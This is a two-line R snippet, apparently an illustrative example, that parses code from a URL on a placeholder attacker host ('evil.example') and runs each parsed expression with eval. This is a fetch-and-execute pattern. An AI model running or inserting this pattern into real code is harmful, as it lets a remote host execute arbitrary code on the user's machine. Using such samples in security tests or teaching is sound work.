exprs <- parse(file = "http://evil.example/a.R")
sapply(exprs, eval)
